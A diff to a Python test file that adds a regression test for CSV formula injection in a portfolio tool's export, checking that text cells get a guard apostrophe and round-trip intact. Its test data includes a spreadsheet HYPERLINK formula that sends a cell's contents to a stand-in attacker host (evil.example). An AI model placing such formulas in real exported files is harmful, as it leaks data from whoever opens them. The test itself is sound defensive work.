@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pandas as pd
@@ -119,6 +120,45 @@ def test_write_then_load_round_trips(pf: Portfolio, tmp_path: Path) -> None:
         pd.testing.assert_frame_equal(getattr(again, spec.attr), getattr(pf, spec.attr))
     assert again.standards["currency"] == "EUR"
     assert again.status_date == pf.status_date
+
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1)",
+    "'=already guarded by hand",
+    "''",
+    "'plain quote",
+    "- a dash list item",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_guarded_and_read_back(
+    pf: Portfolio, tmp_path: Path
+) -> None:
+    """OWASP's CSV injection: ``write_portfolio`` (the importer's download, ``pmkit import``)
+    wrote a name ``=HYPERLINK(...)`` as is, which Excel runs when the CSV is opened. Text cells
+    get a guard apostrophe; numbers (a negative lag) do not; the load gives back the same."""
+    for i, text in enumerate(FORMULA_LIKE):
+        pf.tasks.loc[i, "name"] = text
+        pf.projects.loc[i % len(pf.projects), "sponsor"] = text
+    pf.links.loc[0, "lag_days"] = -2.0
+    out = write_portfolio(pf, tmp_path / "copy")
+    for spec in TABLES.values():
+        with open(out / spec.file, encoding="utf-8", newline="") as fh:
+            rows = list(csv.reader(fh))
+        kinds = {f.name: f.kind for f in spec.fields}
+        for row in rows[1:]:
+            for col, cell in zip(rows[0], row, strict=True):
+                if kinds.get(col, "str") == "str":
+                    assert not cell[:1] or cell[0] not in "=+-@\t\r", (spec.file, col, cell)
+    lag = next(csv.DictReader((out / "links.csv").open(encoding="utf-8")))["lag_days"]
+    assert lag == "-2"
+    again = load_portfolio(out)
+    for spec in TABLES.values():
+        pd.testing.assert_frame_equal(getattr(again, spec.attr), getattr(pf, spec.attr))
+    assert again.tasks["name"].iloc[: len(FORMULA_LIKE)].tolist() == FORMULA_LIKE
 
 
 def test_sample_data_path_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
